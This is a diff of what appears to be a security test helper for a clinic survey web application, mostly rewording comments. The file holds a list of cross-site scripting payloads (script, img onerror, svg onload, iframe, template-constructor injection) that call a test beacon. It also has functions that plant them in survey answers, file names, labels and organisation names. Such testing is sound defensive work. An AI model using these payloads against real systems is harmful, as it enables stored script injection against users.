@@ -1,10 +1,10 @@
 import { createHash } from 'node:crypto'
-import { formOf } from '../../apps/server/src/testing/recordings.ts'
+import { formOf } from '../../apps/server/testing/recordings.ts'
 import { call, type Examiner, recordingOf, type Session, startSession, upload } from '../client.ts'
 import type { Clinic } from '../clinic.ts'
 import { importSurveys, poisonedAnswers } from './poisoned-survey.ts'
 
-/** `@` is where the payload calls. */
+/** `@` stands for the address that the payload calls. */
 const templates: readonly string[] = [
   ...['<img src=@>', '<script src=@></script>', `<svg onload=import('@')>`, `"><img src=x onerror=import('@')>`],
   ...['<iframe src=@>', `javascript:import('@')`, `'-import('@')-'`, `{{constructor.constructor("import('@')")()}}`],
@@ -30,23 +30,23 @@ const templates: readonly string[] = [
   ],
 ]
 
-/** Each calls the beacon under a number of its own. */
+/** Each calls the beacon with its own number. */
 export const scriptPayloads = (beacon: string): string[] =>
   templates.map((template, index) => template.replaceAll('@', `${beacon.replace('http:', '')}/${index}`))
 
-/** Which item of the session is recorded and has a transcript; the others are skipped. */
+/** The item of the session that is recorded and has a transcript; the others are skipped. */
 export const spokenItem = 3
 
 export type Poisoned = { participantId: string; sessionId: string; payload: string }
 
-/** For each payload a participant, with a session, a file, a filled survey and people, in whose every free text it stands. */
+/** Creates a participant for each payload, with a session, a file, a filled survey and people, and it in every text. */
 export async function poisonAll(clinic: Clinic, examiner: Examiner, payloads: readonly string[]): Promise<Poisoned[]> {
   const surveys = await importSurveys(clinic, examiner, payloads)
   const { body } = await examiner.get('/user/examiner_info/')
   await send(clinic.baseUrl, examiner, 'PATCH', `/organizations/examiners/${body.id}/`, { surveys })
   const poisoned: Poisoned[] = []
   for (const [index, payload] of payloads.entries()) {
-    // All of them may take longer than a token lives.
+    // All payloads together may take longer than a token is valid.
     await examiner.renew()
     poisoned.push(await poison(clinic, examiner, payload, surveys[index]!))
   }
@@ -75,7 +75,7 @@ async function poison(clinic: Clinic, examiner: Examiner, payload: string, surve
   return { participantId: session.participantId, sessionId: session.id, payload }
 }
 
-/** The name of the organisation stands on every page. It is given once, at the set-up, and has no call of its own. */
+/** The organisation's name is on every page. It is set once, at the set-up, and no call changes it. */
 export const nameOrganization = ({ database, organizationId }: Clinic, name: string) =>
   database.tenant(organizationId, (tx) =>
     tx.updateTable('organizations').set({ name }).where('id', '=', organizationId).execute(),
@@ -93,7 +93,7 @@ async function poisonPeople({ baseUrl }: Clinic, examiner: Examiner, payload: st
   await send(baseUrl, examiner, 'POST', '/ai/populations/', { name: payload, rule })
 }
 
-/** A file whose name and label are the payload. */
+/** Sends a file whose name and label are the payload. */
 async function sendNotes(baseUrl: string, examiner: Examiner, { participantId }: Session, payload: string) {
   const form = formOf(Buffer.from('notes'), { label: payload }, 'file')
   const name = `filename*=utf-8''${encodeURIComponent(payload)}.txt`
